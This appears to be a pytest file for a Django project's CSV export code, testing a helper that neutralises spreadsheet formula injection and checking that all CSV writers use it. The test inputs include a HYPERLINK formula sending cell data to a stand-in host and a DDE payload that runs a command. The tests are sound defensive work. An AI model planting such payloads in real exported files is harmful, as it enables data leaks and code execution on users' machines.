"""Formula injection in CSV (issue 12 item 8): one helper, used by every CSV writer of forprev/."""

import ast
import csv
import io
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from django.utils.translation import gettext_lazy

from forprev.core import csv_safe
from forprev.core.csv_safe import line_writer, safe_cell, writer
from forprev.people.duplicates.people_csv import write_pairs
from forprev.switchover.checks.export import csv_lines
from forprev.switchover.migration.report import issue_rows

FORPREV = Path(__file__).resolve().parents[2] / "forprev"
HELPER = FORPREV / "core" / "csv_safe.py"
# Files read by programs, reproducing another system's format (csv_safe.raw_writer).
RAW_WRITER_ALLOWED = {
    FORPREV / "switchover" / "legacy" / "generator_output.py",  # Forprev 1's export, generated
    FORPREV / "people" / "duplicates" / "synthetic.py",  # the duplicate-detection dataset
}


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez")',
        "=cmd|' /C calc'!A0",
        "+33 6 12 34 56 78",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        "  =1+1",
    ],
)
def test_every_dangerous_start_is_quoted(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["Dupont", "Jean-Pierre", "N'Diaye", "a=b", "1+1", "jean@exemple.fr", "", "Œuvre", "'déjà"],
)
def test_harmless_text_is_untouched(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize(
    "value",
    [-3, 0, 12, -1.5, Decimal("-2.50"), date(2025, 1, 2), datetime(2025, 1, 2, 3, 4), True],
)
def test_typed_numbers_and_dates_are_written_as_they_are(value):
    assert safe_cell(value) is value


def test_none_is_an_empty_cell_and_other_objects_are_text():
    assert safe_cell(None) == ""
    assert safe_cell(gettext_lazy("=lazy")) == "'=lazy"

    class Named:
        def __str__(self):
            return "-name"

    assert safe_cell(Named()) == "'-name"


def test_writer_neutralises_every_cell_and_keeps_numbers():
    out = io.StringIO()
    csv_writer = writer(out, delimiter=";", lineterminator="\n")

    csv_writer.writerow(["=1+1", "Dupont", -3, None, "@x"])
    csv_writer.writerows([["+1", 2.5]])

    assert out.getvalue() == "'=1+1;Dupont;-3;;'@x\n'+1;2.5\n"
    assert list(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))[0][0] == "'=1+1"


def test_line_writer_returns_each_line():
    lines = line_writer(delimiter=";", lineterminator="\r\n")

    assert lines.writerow(["a", "=b", 'c"d']) == 'a;\'=b;"c""d"\r\n'


# Every CSV of forprev/ goes through the helper.


def _csv_writer_uses(tree: ast.AST) -> list[int]:
    """Lines using ``csv.writer``/``csv.DictWriter`` (module imported under any name)."""
    aliases, lines = set(), []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            aliases |= {a.asname or a.name for a in node.names if a.name == "csv"}
        elif (
            isinstance(node, ast.ImportFrom)
            and node.module == "csv"
            and any(a.name in {"writer", "DictWriter", "*"} for a in node.names)
        ):
            lines.append(node.lineno)
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.Attribute)
            and node.attr in {"writer", "DictWriter"}
            and isinstance(node.value, ast.Name)
            and node.value.id in aliases
        ):
            lines.append(node.lineno)
    return lines


def _raw_writer_uses(tree: ast.AST) -> list[int]:
    lines = []
    for node in ast.walk(tree):
        attribute = isinstance(node, ast.Attribute) and node.attr == "raw_writer"
        imported = isinstance(node, ast.ImportFrom) and any(
            a.name == "raw_writer" for a in node.names
        )
        if attribute or imported:
            lines.append(node.lineno)
    return lines


def test_no_csv_writer_in_forprev_outside_the_helper():
    offenders = []
    for path in sorted(FORPREV.rglob("*.py")):
        if path == HELPER:
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
        offenders += [f"{path.relative_to(FORPREV)}:{line}" for line in _csv_writer_uses(tree)]
        if path not in RAW_WRITER_ALLOWED:
            offenders += [
                f"{path.relative_to(FORPREV)}:{line} (raw_writer)"
                for line in _raw_writer_uses(tree)
            ]
    assert offenders == [], "use forprev.core.csv_safe.writer / line_writer: " + ", ".join(
        offenders
    )


def test_the_guard_sees_every_spelling():
    code = (
        "import csv\nimport csv as c\nfrom csv import writer\ncsv.writer(f)\nc.DictWriter(f, [])\n"
    )
    assert sorted(_csv_writer_uses(ast.parse(code))) == [3, 4, 5]
    assert _raw_writer_uses(ast.parse("from forprev.core import csv_safe\ncsv_safe.raw_writer(f)"))


def test_the_allowed_raw_writers_exist():
    for path in RAW_WRITER_ALLOWED:
        assert _raw_writer_uses(ast.parse(path.read_text(encoding="utf-8"))), path


def test_helper_prefixes_are_the_issue_s_list():
    assert {"=", "+", "-", "@", "\t", "\r"} <= set(csv_safe.FORMULA_PREFIXES)


# The application's CSV outputs, each with a hostile value.


def test_switchover_exports_neutralise_names_from_forprev_1():
    lines = list(csv_lines(["Raison sociale", "Anomalies"], [['=HYPERLINK("x")', -2]]))

    assert lines[1] == '"\'=HYPERLINK(""x"")";-2\r\n'  # quoted text; a typed number stays one


def test_reconciliation_lines_neutralise_every_text_cell():
    issue = ("entites.csv", 3, "-12", "rejected", "motif", "@SUM(A1)", "+Entité", "Caisse")
    line = list(issue_rows([issue]))[1]

    assert line.startswith("entites.csv;3;'-12;")
    assert ";'@SUM(A1);'+Entité;Caisse" in line


def test_duplicate_pairs_neutralise_identifiers_from_the_input_file(tmp_path):
    path = tmp_path / "paires.csv"
    write_pairs(path, [("=cmd|' /C calc'!A0", "42", 0.9)])

    assert path.read_text(encoding="utf-8").splitlines()[1] == "'=cmd|' /C calc'!A0,42,0.9000"
